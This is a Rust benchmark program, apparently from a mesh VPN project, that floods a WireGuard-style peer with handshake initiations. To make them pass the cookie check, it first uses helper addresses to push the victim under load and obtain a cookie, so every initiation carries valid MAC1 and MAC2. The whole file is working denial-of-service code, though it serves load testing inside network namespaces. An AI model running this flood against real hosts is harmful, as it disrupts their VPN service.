//! A handshake flood with valid MAC2, for bench/handshake-flood.sh.
//!
//! An attacker that sends from its real address can obtain a cookie and then send handshake
//! initiations that pass the cookie check (valid MAC2). To get a cookie the victim must be under
//! load, so helper addresses first send a burst each (more than the shared limit of 100 a
//! second, together); the attacker's own initiation is then answered with a cookie reply, which
//! its boringtun state takes in. It then sends pre-made initiations, all with valid MAC1 and MAC2,
//! from its one address at the given rate for the given time, and prints how many it sent.
//!
//! usage: handshake_flood TARGET VICTIM_PUBLIC_KEY ATTACKER_ADDR HELPER_ADDR... -- RATE SECONDS
//! (run inside the attacker's network namespace; addresses are local addresses to bind)

use boringtun::noise::{Tunn, TunnResult};
use meshd::keys::{PrivateKey, PublicKey};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

fn initiation(tunn: &mut Tunn) -> Vec<u8> {
    let mut out = vec![0u8; 256];
    match tunn.format_handshake_initiation(&mut out, true) {
        TunnResult::WriteToNetwork(init) => init.to_vec(),
        _ => panic!("no initiation"),
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let split = args
        .iter()
        .position(|a| a == "--")
        .expect("usage: handshake_flood TARGET VICTIM_PUBLIC_KEY ATTACKER_ADDR HELPER_ADDR... -- RATE SECONDS");
    let (addrs, numbers) = args.split_at(split);
    let target: SocketAddr = addrs[0].parse().expect("TARGET: an address:port");
    let victim = PublicKey::from_base64("VICTIM_PUBLIC_KEY", &addrs[1]).expect("a public key");
    let attacker: IpAddr = addrs[2].parse().expect("ATTACKER_ADDR: an address");
    let helpers: Vec<IpAddr> = addrs[3..]
        .iter()
        .map(|a| a.parse().expect("HELPER_ADDR: an address"))
        .collect();
    let rate: u64 = numbers[1].parse().expect("RATE: initiations a second");
    let seconds: u64 = numbers[2].parse().expect("SECONDS");

    let mut tunn = Tunn::new(
        boringtun::x25519::StaticSecret::from(*PrivateKey::generate().as_bytes()),
        boringtun::x25519::PublicKey::from(*victim.as_bytes()),
        None,
        None,
        1,
        None,
    );
    let socket = UdpSocket::bind(SocketAddr::new(attacker, 0)).expect("bind the attacker address");
    socket
        .set_read_timeout(Some(Duration::from_millis(100)))
        .unwrap();

    // Put the victim under load from the helpers, then ask for a cookie.
    let mut cookie = false;
    let mut buf = vec![0u8; 2048];
    let mut out = vec![0u8; 2048];
    for _ in 0..20 {
        for helper in &helpers {
            let s = UdpSocket::bind(SocketAddr::new(*helper, 0)).expect("bind a helper address");
            for _ in 0..5 {
                let _ = s.send_to(&initiation(&mut tunn), target);
            }
        }
        socket.send_to(&initiation(&mut tunn), target).unwrap();
        while let Ok((n, _)) = socket.recv_from(&mut buf) {
            if buf[0] == 3
                && matches!(
                    tunn.decapsulate(None, &buf[..n], &mut out),
                    TunnResult::Done
                )
            {
                cookie = true;
            }
        }
        if cookie {
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    assert!(
        cookie,
        "the victim never answered with a cookie: is it under load?"
    );

    // Initiations with the cookie's MAC2 (valid for two minutes), made before the clock starts.
    let made: Vec<Vec<u8>> = (0..2000).map(|_| initiation(&mut tunn)).collect();
    let start = Instant::now();
    let mut sent: u64 = 0;
    while start.elapsed() < Duration::from_secs(seconds) {
        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
        while sent < due {
            let _ = socket.send_to(&made[(sent % made.len() as u64) as usize], target);
            sent += 1;
        }
        std::thread::sleep(Duration::from_micros(500));
    }
    println!(
        "sent {sent} initiations with valid MAC2 in {:.1} s ({:.0}/s)",
        start.elapsed().as_secs_f64(),
        sent as f64 / start.elapsed().as_secs_f64()
    );
}
